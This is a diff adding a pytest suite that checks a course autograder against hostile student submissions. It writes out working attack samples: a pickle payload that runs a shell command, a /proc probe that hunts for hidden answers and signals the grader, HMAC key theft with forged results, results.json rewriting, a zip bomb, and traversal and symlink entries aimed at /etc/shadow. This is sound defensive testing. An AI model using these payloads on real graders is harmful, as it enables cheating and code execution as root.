@@ -1,0 +1,598 @@
+"""The grader's promises against a hostile submission, one test each (issue 6).
+
+Every attack is what a student who reads Otter's and our source could try. It
+is graded through the real autograder zip with ``otter run`` (``otter_run``,
+as ``genai-hw grade`` does), on top of the untouched stubs, and must earn no
+more than the stubs (0), with results written. Where an attack needs the
+grader to be root (student code as its own users), the test is skipped
+elsewhere.
+
+Markers that a payload would create if it ran in the grader live in the
+test's own ``tmp_path`` (under a folder only root may enter), so student code
+cannot create them itself; reports that student code writes for the test go
+to a world-writable folder the test makes.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import pickle
+import secrets
+import shutil
+import signal
+import subprocess
+import sys
+import time
+import zipfile
+from pathlib import Path
+
+import nbformat
+import pytest
+
+from autograder import sandbox
+from autograder.release import make_submission, otter_run, score_of
+from conftest import SOLUTIONS, STUBS
+
+pytestmark = pytest.mark.slow
+root_only = pytest.mark.skipif(not sandbox.isolating(), reason="student users need a root grader")
+POOL = set(range(sandbox.UID_BASE, sandbox.UID_BASE + 2 * sandbox.SLOTS))
+
+
+class _Payload:
+    """Unpickling this runs ``touch marker``: in the grader it would run as root."""
+
+    def __init__(self, marker: Path) -> None:
+        self.marker = str(marker)
+
+    def __reduce__(self):
+        return (os.system, (f"touch {self.marker}",))
+
+
+def payload(marker: Path) -> bytes:
+    return pickle.dumps(_Payload(marker))
+
+
+@pytest.fixture
+def report_dir():
+    """A folder student code may write its findings to (the sandbox never removes it: root owns it)."""
+    path = Path(f"/tmp/genai-hw-test-report-{secrets.token_hex(4)}")
+    path.mkdir()
+    path.chmod(0o777)
+    yield path
+    shutil.rmtree(path, ignore_errors=True)
+
+
+def findings(report_dir: Path, name: str) -> dict:
+    path = report_dir / f"{name}.json"
+    assert path.is_file(), f"the attack did not run: {path} missing"
+    return json.loads(path.read_text())
+
+
+def submission(released: dict, tmp: Path, cells: tuple[str, ...] = (), package: Path = STUBS,
+               append: dict[str, str] | None = None, extra: dict[str, bytes] | None = None,
+               notebook: Path | None = None) -> Path:
+    """The student release's notebook (plus ``cells`` at the top) and ``package`` (plus code appended to
+    its modules), zipped as the export cell does, plus ``extra`` files at the zip's root."""
+    nb = nbformat.read(notebook or released["notebook"], as_version=4)
+    for position, source in enumerate(cells, start=1):
+        nb.cells.insert(position, nbformat.v4.new_code_cell(source))
+    folder = tmp / f"sub_{secrets.token_hex(3)}"
+    folder.mkdir()
+    nbformat.write(nb, folder / released["notebook"].name)
+    shutil.copytree(package, folder / "genai_hw", ignore=shutil.ignore_patterns("__pycache__"))
+    for module, code in (append or {}).items():
+        path = folder / "genai_hw" / f"{module}.py"
+        path.write_text(path.read_text() + "\n" + code + "\n")
+    zip_path = make_submission(folder / released["notebook"].name, folder / "genai_hw", folder / "upload.zip")
+    with zipfile.ZipFile(zip_path, "a") as zf:
+        for name, data in (extra or {}).items():
+            zf.writestr(name, data)
+    return zip_path
+
+
+def per_question(results: dict) -> dict[str, tuple[float, float]]:
+    return {t["name"]: (t["score"], t["max_score"]) for t in results["tests"] if "max_score" in t}
+
+
+def student_processes() -> list[int]:
+    return sandbox.processes_of(uids=POOL)
+
+
+def assert_like_stubs(results: dict) -> None:
+    assert "error" not in results, results.get("error")
+    score, possible = score_of(results)
+    assert possible == 20 and score == 0, per_question(results)
+
+
+# 1. Nothing from the submission is unpickled in the grader ------------------------------------------
+
+def test_otter_log_in_the_upload_is_never_unpickled(released, tmp_path):
+    marker = tmp_path / "pwned_by_otter_log"
+    upload = submission(released, tmp_path, extra={".OTTER_LOG": payload(marker),
+                                                    "genai_hw/.OTTER_LOG": payload(marker)})
+    results = otter_run(released["zip"], upload, tmp_path / "out")
+    assert not marker.exists(), "Otter's process unpickled the submission's .OTTER_LOG"
+    assert_like_stubs(results)
+    # The attack has teeth: loading that file as Otter 7.0.0 does runs the payload.
+    teeth = tmp_path / "teeth"
+    (tmp_path / "log").write_bytes(payload(teeth))
+    subprocess.run([sys.executable, "-c", f"import dill; dill.load(open({str(tmp_path / 'log')!r}, 'rb'))"],
+                   check=False, capture_output=True)
+    assert teeth.exists()
+
+
+LOG_SERVER_ATTACK = '''
+import logging, socket, struct
+payload = {payload!r}
+ports = set()
+for table in ("/proc/net/tcp", "/proc/net/tcp6"):
+    for line in open(table).read().splitlines()[1:]:
+        fields = line.split()
+        if fields[3] == "0A":  # listening
+            ports.add(int(fields[1].rsplit(":", 1)[1], 16))
+for logger in [logging.getLogger(), *logging.Logger.manager.loggerDict.values()]:
+    for handler in getattr(logger, "handlers", []):
+        if getattr(handler, "port", None):
+            ports.add(handler.port)
+for port in ports:
+    try:
+        s = socket.create_connection(("127.0.0.1", port), timeout=1)
+        s.sendall(struct.pack(">L", len(payload)) + payload)
+        s.close()
+    except Exception:
+        pass
+'''
+
+
+def test_otter_log_server_never_unpickles(released, tmp_path):
+    marker = tmp_path / "pwned_by_log_server"
+    upload = submission(released, tmp_path, cells=(LOG_SERVER_ATTACK.format(payload=payload(marker)),))
+    results = otter_run(released["zip"], upload, tmp_path / "out")
+    time.sleep(0.5)
+    assert not marker.exists(), "Otter's log server unpickled what the notebook sent"
+    assert_like_stubs(results)
+    # Teeth: against Otter's own log server, the same cell runs its payload in the server's process.
+    teeth = tmp_path / "teeth"
+    script = ("import time\nfrom otter.execute.logging import start_server\n(host, port), stop = start_server()\n"
+              + LOG_SERVER_ATTACK.format(payload=payload(teeth)) + "\ntime.sleep(1)\nstop()\n")
+    subprocess.run([sys.executable, "-c", script], check=False, capture_output=True, timeout=60)
+    assert teeth.exists()
+
+
+# 2. Student code cannot reach the grader: its processes, files, results ------------------------------
+
+PROBE = '''
+import glob, json, os, signal, zipfile
+found = {{"uid": os.getuid(), "read": [], "denied": [], "signalled": [], "zips_seen": []}}
+paths = set(glob.glob("/tmp/*/autograder/source/**/*", recursive=True))
+paths |= set(glob.glob("/tmp/genai-hw-run-*/**/*", recursive=True))
+for pid in [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]:
+    try:
+        args = open(f"/proc/{{pid}}/cmdline", "rb").read().split(b"\\0")
+    except OSError:
+        continue
+    for arg in args:
+        text = arg.decode(errors="replace")
+        if text.startswith("/"):
+            paths.add(text)
+            if text.endswith(".zip"):
+                found["zips_seen"].append(text)
+    for entry in ("environ", "mem", "cwd", "fd", "root"):
+        try:
+            target = f"/proc/{{pid}}/{{entry}}"
+            os.listdir(target) if entry == "fd" else (os.readlink(target) if entry in ("cwd", "root")
+                                                        else open(target, "rb").read(1))
+            if int(pid) == os.getppid():
+                found["read"].append(target)
+        except OSError:
+            pass
+# The course checkout, from the interpreter's path, PATH and an editable install's finder.
+import re, sys
+roots = {{os.path.dirname(sys.executable)}} | set(os.environ.get("PATH", "").split(":"))
+for folder in sys.path:
+    for finder in glob.glob(os.path.join(folder, "__editable__*finder.py")):
+        try:
+            roots |= set(re.findall(r"'(/[^']+)'", open(finder).read()))
+        except OSError:
+            pass
+for start in roots:
+    for up in [start, *[start.rsplit("/", n)[0] for n in range(1, start.count("/"))]]:
+        paths.add(up + "/solutions/genai_hw/ngrams.py")
+        paths.add(up + "/assignments/hw01_ngrams/hidden_cases.py")
+for path in sorted(paths):
+    if "genai_hw_grading" in path or path.endswith(("hidden_cases.py", "-autograder.zip", "autograder.zip")) \\
+            or "/reference/" in path or "/solutions/genai_hw/" in path:
+        try:
+            if path.endswith(".zip"):
+                with zipfile.ZipFile(path) as zf:
+                    zf.read("genai_hw_grading/hidden_cases.py")
+            else:
+                open(path, "rb").read(1)
+            found["read"].append(path)
+        except FileNotFoundError:
+            pass
+        except (OSError, KeyError, zipfile.BadZipFile):
+            found["denied"].append(path)
+for sig in (signal.SIGSTOP, signal.SIGKILL):
+    try:
+        os.kill(os.getppid(), sig)
+        found["signalled"].append(sig)
+    except OSError:
+        pass
+open({report!r}, "w").write(json.dumps(found))
+'''
+
+
+@root_only
+def test_student_code_cannot_read_or_signal_the_grader(released, tmp_path, report_dir):
+    """The runner (at import) and the kernel (in a cell) look for the reference, the hidden cases and the
+    autograder zip everywhere /proc points, read the grader's /proc entries and signal it: all denied."""
+    upload = submission(released, tmp_path,
+                        cells=(PROBE.format(report=str(report_dir / "kernel.json")),),
+                        append={"__init__": PROBE.format(report=str(report_dir / "runner.json"))})
+    start = time.monotonic()
+    results = otter_run(released["zip"], upload, tmp_path / "out")
+    assert time.monotonic() - start < 120
+    assert_like_stubs(results)
+    for side in ("runner", "kernel"):
+        seen = findings(report_dir, side)
+        assert seen["uid"] in POOL, f"the {side} ran as uid {seen['uid']}"
+        assert seen["read"] == [] and seen["signalled"] == [], (side, seen)
+        assert seen["zips_seen"], f"the {side} did not even see the autograder zip's path"  # the attack had a target
+        assert any("/solutions/genai_hw/" in path for path in seen["denied"]), "the checkout was not found"
+
+
+SNAPSHOT_ATTACK = '''
+import glob, json, os
+written = []
+targets = glob.glob("/tmp/genai-hw-sandbox-*/pkg/genai_hw/*.py")
+targets += glob.glob("/tmp/genai_hw_grading_*/pkg/genai_hw/*.py")
+for path in targets:
+    try:
+        with open(path, "a") as f:
+            f.write("\\n# tampered\\n")
+        written.append(path)
+    except OSError:
+        pass
+open({report!r}, "w").write(json.dumps({{"targets": targets, "written": written}}))
+'''
+
+
+@root_only
+def test_the_graded_snapshot_cannot_be_changed(released, tmp_path, report_dir):
+    """A notebook that rewrites the runner's copy of the package (reused when the runner restarts after
+    the notebook, which a crashing case forces here) changes nothing."""
+    upload = submission(released, tmp_path, cells=(SNAPSHOT_ATTACK.format(report=str(report_dir / "nb.json")),),
+                        append={"ngrams": "def normalize(text):\n    import os\n    os._exit(3)\n"})
+    results = otter_run(released["zip"], upload, tmp_path / "out")
+    assert_like_stubs(results)
+    seen = findings(report_dir, "nb")
+    assert seen["targets"] and seen["written"] == [], seen
+    q2 = next(t for t in results["tests"] if t["name"] == "q2")
+    assert "ended during this case" in q2["output"]
+
+
+FORGE_KEY = '''
+import json, sys, traceback
+try:
+    frame, key = sys._getframe(), None
+    while frame is not None and key is None:
+        for value in list(frame.f_locals.values()):
+            for cell in getattr(value, "__closure__", None) or ():
+                try:
+                    if isinstance(cell.cell_contents, bytes) and len(cell.cell_contents) == 32:
+                        key = cell.cell_contents
+                except ValueError:
+                    pass
+        frame = frame.f_back
+    found = {{"key": key.hex() if key else None}}
+except BaseException:
+    found = {{"key": None, "error": traceback.format_exc()}}
+open({report!r}, "w").write(json.dumps(found))
+import os
+os.chmod({report!r}, 0o644)  # for the notebook, which runs as another user
+'''
+
+FORGE_LINES = '''
+import hashlib, hmac, json, os, time
+for _ in range(50):
+    if os.path.exists({report!r}):
+        break
+    time.sleep(0.1)
+key = bytes.fromhex(json.load(open({report!r}))["key"])
+opened = []
+for pid in [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]:
+    try:
+        fds = os.listdir(f"/proc/{{pid}}/fd")
+    except OSError:
+        continue
+    for fd in fds:
+        try:
+            if not os.readlink(f"/proc/{{pid}}/fd/{{fd}}").startswith("pipe:"):
+                continue
+            with open(f"/proc/{{pid}}/fd/{{fd}}", "w") as pipe:
+                for case in range(40):
+                    record = json.dumps({{"event": "done", "case": case, "calls": [
+                        {{"status": "raised", "types": ["ValueError", "Exception"], "message": ""}}] * 40}},
+                        separators=(",", ":"))
+                    pipe.write(record + "\\t" + hmac.new(key, record.encode(), hashlib.sha256).hexdigest() + "\\n")
+            opened.append(f"{{pid}}/{{fd}}")
+        except OSError:
+            pass
+open({out!r}, "w").write(json.dumps({{"opened": opened}}))
+'''
+
+
+@root_only
+def test_the_runner_key_gains_the_notebook_nothing(released, tmp_path, report_dir):
+    """Package code finds the runner's HMAC key on its stack (it shares that process) and hands it to the
+    notebook, which writes signed lines claiming "raised ValueError" (the right outcome of the edge cases)
+    into every pipe it can open: it cannot open the runner's, so nothing is gained."""
+    key_file, out = report_dir / "key.json", report_dir / "forged.json"
+    upload = submission(released, tmp_path, cells=(FORGE_LINES.format(report=str(key_file), out=str(out)),),
+                        append={"__init__": FORGE_KEY.format(report=str(key_file))})
+    results = otter_run(released["zip"], upload, tmp_path / "out")
+    assert_like_stubs(results)
+    assert findings(report_dir, "key")["key"], findings(report_dir, "key")
+    assert json.loads(out.read_text())["opened"] == []
+
+
+DETACH = '''
+import subprocess, sys
+CHILD = """
+import glob, json, os, time
+end = time.time() + 90
+while time.time() < end:
+    for path in glob.glob("/tmp/**/results.json", recursive=True):
+        try:
+            data = json.load(open(path))
+            for test in data.get("tests", []):
+                test["score"] = test.get("max_score", 0)
+            data["score"] = 20
+            open(path, "w").write(json.dumps(data))
+        except Exception:
+            pass
+    time.sleep(0.05)
+"""
+subprocess.Popen([sys.executable, "-c", CHILD], start_new_session=True,
+                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+'''
+
+
+@root_only
+def test_no_student_process_outlives_grading_or_changes_results(released, tmp_path):
+    """Detached (setsid) children of the package and of the notebook that rewrite every results.json they
+    find: they cannot write the grader's, and none is running after grading (genai-hw grade's CSV too)."""
+    from autograder.grade import grade
+
+    subs = tmp_path / "subs"
+    subs.mkdir()
+    shutil.copy(submission(released, tmp_path, cells=(DETACH,), append={"__init__": DETACH}), subs / "mallory.zip")
+    rows = grade(released["zip"], [subs], tmp_path / "grades", log=lambda *_: None)
+    assert rows[0]["score"] == 0 and not rows[0]["error"], rows
+    assert student_processes() == []
+    time.sleep(1)
+    results = json.loads(next((tmp_path / "grades").glob("*/results.json")).read_text())
+    assert score_of(results) == (0.0, 20.0)
+    leftovers = [p for root in sandbox.TEMP_ROOTS for p in Path(root).glob("*")
+                 if p.lstat().st_uid in POOL]
+    assert leftovers == []
+
+
+KILLER = '''
+import os, signal
+for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
+    if pid != os.getpid():
+        for sig in (signal.SIGSTOP, signal.SIGKILL):
+            try:
+                os.kill(pid, sig)
+            except OSError:
+                pass
+'''
+
+
+@root_only
+def test_grading_finishes_when_student_code_signals_everything(released, tmp_path):
+    upload = submission(released, tmp_path, cells=(KILLER,), append={"__init__": KILLER})
+    start = time.monotonic()
+    results = otter_run(released["zip"], upload, tmp_path / "out")
+    assert time.monotonic() - start < 120
+    assert_like_stubs(results)
+
+
+# 3. Grading always finishes, and costs a hostile notebook only its own questions ---------------------
+
+HANGS = {
+    "swallows_interrupts": "import time\nwhile True:\n    try:\n        time.sleep(1)\n    except BaseException:\n"
+                           "        pass",
+    "breaks_isinstance": "import builtins\nbuiltins.isinstance = lambda obj, cls: True\n",
+}
+
+
+@root_only
+@pytest.mark.parametrize("how", sorted(HANGS))
+def test_a_hanging_notebook_costs_only_the_notebook_questions(released, solution_notebook, tmp_path, monkeypatch,
+                                                              how):
+    monkeypatch.setenv("GENAI_HW_CELL_TIMEOUT", "3")
+    monkeypatch.setenv("GENAI_HW_NOTEBOOK_LIMIT", "12")
+    upload = submission(released, tmp_path, cells=(HANGS[how],), package=SOLUTIONS, notebook=solution_notebook)
+    start = time.monotonic()
+    results = otter_run(released["zip"], upload, tmp_path / "out")
+    took = time.monotonic() - start
+    assert took < 60, f"grading took {took:.0f} s"
+    scores = per_question(results)
+    assert all(scores[q] == (scores[q][1], scores[q][1]) for q in scores if q != "q10"), scores
+    if how == "swallows_interrupts":
+        assert scores["q10"][0] == 0 and "12 s" in results["output"]
+    assert student_processes() == []
+
+
+# 4. Cleanup, also after an interrupted grading --------------------------------------------------------
+
+SLOW_CELL = "import time\ntime.sleep(60)"
+SLEEPER = ("import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', 'import time; time.sleep(300)'], "
+           "start_new_session=True)\n")
+
+
+@root_only
+@pytest.mark.parametrize("how", ["SIGTERM", "SIGKILL"])
+def test_an_interrupted_grading_leaves_no_process_or_file(released, tmp_path, how):
+    """otter run stopped mid-grading: SIGTERM cleans up at once; after SIGKILL, the next grading (or
+    genai-hw grade, through reap_abandoned) kills what was left and removes its folders."""
+    upload = submission(released, tmp_path, cells=(SLEEPER + SLOW_CELL,), append={"__init__": SLEEPER})
+    private = tmp_path / "tmp"
+    private.mkdir()
+    (tmp_path / "out").mkdir()
+    shutil.copy(released["zip"], private / "ag.zip")
+    proc = subprocess.Popen([sys.executable, "-m", "otter", "run", "-a", str(private / "ag.zip"), "-o",
+                             str(tmp_path / "out"), str(upload)], env=dict(os.environ, TMPDIR=str(private)),
+                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    deadline = time.monotonic() + 60
+    while time.monotonic() < deadline and len(student_processes()) < 2:  # the kernel and its sleeper
+        time.sleep(0.2)
+    assert len(student_processes()) >= 2, "the grading never started its student processes"
+    proc.send_signal(getattr(signal, how))
+    proc.wait(timeout=60)
+    if how == "SIGKILL":
+        assert student_processes(), "SIGKILL should have left the sandbox behind"
+        sandbox.reap_abandoned()
+    time.sleep(0.2)
+    assert student_processes() == []
+    assert list(Path("/tmp").glob("genai-hw-sandbox-*")) == []
+    if how == "SIGTERM":
+        assert [p.name for p in private.iterdir()] == ["ag.zip"], "Otter's temporary folder was left behind"
+
+
+# 5. The grader runs the code it was given -------------------------------------------------------------
+
+def test_grading_uses_the_code_in_the_autograder_zip(released, tmp_path):
+    """Even with this project installed (editable, in the tests), otter run grades with the zip's plugin."""
+    patched = tmp_path / "patched.zip"
+    with zipfile.ZipFile(released["zip"]) as src, zipfile.ZipFile(patched, "w") as out:
+        for item in src.infolist():
+            data = src.read(item.filename)
+            if item.filename == "autograder/harness.py":
+                data = data.replace(b"Your upload has no genai_hw/ folder", b"ZIP-CODE: no genai_hw/ folder")
+            out.writestr(item, data)
+    notebook = shutil.copy(released["notebook"], tmp_path / released["notebook"].name)
+    results = otter_run(patched, Path(notebook), tmp_path / "out")
+    assert "ZIP-CODE: no genai_hw/ folder" in results["output"]
+
+
+def test_the_autograder_zip_is_readable_by_its_owner_only(released):
+    assert released["zip"].stat().st_mode & 0o777 == 0o600
+    names = zipfile.ZipFile(released["zip"]).namelist()
+    assert "autograder/release.py" not in names and "autograder/cli.py" not in names
+    assert "autograder/sandbox.py" in names and "autograder/gradescope.py" in names
+
+
+# 6. Malformed uploads: a results.json with a clear message, never a crash ----------------------------
+
+def _zip(path: Path, entries: dict[str, bytes]) -> Path:
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
+        for name, data in entries.items():
+            zf.writestr(name, data)
+    return path
+
+
+def _package_entries(package: Path, skip: str = "", replace: dict[str, bytes] | None = None) -> dict[str, bytes]:
+    entries = {f"genai_hw/{p.relative_to(package).as_posix()}": p.read_bytes() for p in package.rglob("*")
+               if p.is_file() and "__pycache__" not in p.parts and p.name != skip}
+    entries.update(replace or {})
+    return entries
+
+
+def test_upload_without_a_notebook(released, tmp_path):
+    results = otter_run(released["zip"], _zip(tmp_path / "s.zip", _package_entries(SOLUTIONS)), tmp_path / "o")
+    assert score_of(results) == (0.0, 20.0)
+    assert "exactly one .ipynb notebook" in results["output"]
+
+
+def test_notebook_that_is_not_json(released, tmp_path):
+    upload = _zip(tmp_path / "s.zip", {"hw01_ngrams.ipynb": b"{ this is not json", **_package_entries(SOLUTIONS)})
+    results = otter_run(released["zip"], upload, tmp_path / "o")
+    assert score_of(results) == (0.0, 20.0)
+    assert "not a valid .ipynb file" in results["output"]
+
+
+def test_empty_zip_and_not_a_zip(released, tmp_path):
+    for name, data in [("empty.zip", None), ("junk.zip", b"PK\x03\x04 not really")]:
+        path = tmp_path / name
+        if data is None:
+            zipfile.ZipFile(path, "w").close()
+        else:
+            path.write_bytes(data)
+        results = otter_run(released["zip"], path, tmp_path / f"out_{path.stem}")
+        assert score_of(results) == (0.0, 20.0), name
+        assert "Upload the zip" in results["output"], name
+
+
+def test_zip_bomb_is_refused_before_unpacking(released, tmp_path):
+    path = tmp_path / "bomb.zip"
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf, zf.open("hw01_ngrams.ipynb", "w",
+                                                                        force_zip64=True) as f:
+        chunk = b"\0" * 2**20
+        for _ in range(400):
+            f.write(chunk)
+    assert path.stat().st_size < 2 * 2**20
+    results = otter_run(released["zip"], path, tmp_path / "o")
+    assert score_of(results) == (0.0, 20.0)
+    assert "over the limit" in results["output"]
+
+
+def test_partial_package_and_syntax_error_cost_only_their_questions(released, solution_notebook, tmp_path):
+    """No training.py, and a syntax error in tokenizer.py (no hw01 question): every ngrams question full."""
+    notebook = {"hw01_ngrams.ipynb": solution_notebook.read_bytes()}
+    entries = _package_entries(SOLUTIONS, skip="training.py",
+                               replace={"genai_hw/tokenizer.py": b"def broken(:\n"})
+    results = otter_run(released["zip"], _zip(tmp_path / "s.zip", {**notebook, **entries}), tmp_path / "o")
+    scores = per_question(results)
+    assert scores["q1"][0] == 0 and "could not import genai_hw.training" in next(
+        t["output"] for t in results["tests"] if t["name"] == "q1")
+    assert all(scores[q][0] == scores[q][1] for q in ("q2", "q3", "q4", "q5", "q6", "q7", "q8")), scores
+
+
+def test_traversal_and_symlink_entries_stay_inside(released, solution_notebook, tmp_path):
+    """``../`` and absolute names land inside the submission folder; a symlink entry is a plain file."""
+    link = zipfile.ZipInfo("genai_hw/ngrams.py")
+    link.external_attr = (0o120777 << 16)
+    entries = {"hw01_ngrams.ipynb": solution_notebook.read_bytes(), **_package_entries(SOLUTIONS, skip="ngrams.py"),
+               "../../escaped_genai_hw.py": b"x = 1", "/tmp/escaped_genai_hw_abs.py": b"x = 1"}
+    upload = _zip(tmp_path / "s.zip", entries)
+    with zipfile.ZipFile(upload, "a") as zf:
+        zf.writestr(link, "/etc/shadow")
+    results = otter_run(released["zip"], upload, tmp_path / "o")
+    assert not Path("/tmp/escaped_genai_hw_abs.py").exists()
+    assert not list(tmp_path.parent.rglob("escaped_genai_hw.py"))
+    scores = per_question(results)
+    assert scores["q1"] == (2, 2) and scores["q2"][0] == 0, scores
+    assert "root:" not in json.dumps(results)
+
+
+def test_the_gradescope_entry_point_always_writes_results(released, tmp_path):
+    """The zip's run_otter.py (autograder.gradescope.main) on a notebook that is not JSON."""
+    ag = tmp_path / "autograder"
+    for sub in ("source", "submission", "results"):
+        (ag / sub).mkdir(parents=True)
+    zipfile.ZipFile(released["zip"]).extractall(ag / "source")
+    (ag / "submission" / "hw01_ngrams.ipynb").write_text("not json")
+    (ag / "submission_metadata.json").write_text("{}")
+    script = (f"import sys; sys.path.insert(0, {str(ag / 'source')!r})\n"
+              f"from autograder.gradescope import main; main({str(ag)!r})")
+    subprocess.run([sys.executable, "-c", script], capture_output=True, cwd=tmp_path, timeout=120)
+    results = json.loads((ag / "results" / "results.json").read_text())
+    assert results["score"] == 0 and "not a valid .ipynb file" in results["output"]
+    assert {t["name"] for t in results["tests"]} >= {"q1", "q8", "q10"}
+
+
+def test_grade_says_plainly_when_submissions_are_not_isolated(released, tmp_path, monkeypatch, capsys):
+    from autograder import cli
+
+    monkeypatch.setattr(sandbox, "isolating", lambda: False)
+    subs = tmp_path / "subs"
+    subs.mkdir()
+    (subs / "x.zip").write_bytes(b"not a zip")
+    cli.main(["grade", "--autograder", str(released["zip"]), str(subs), "--out", str(tmp_path / "g")])
+    assert "NOT isolated" in capsys.readouterr().err
+
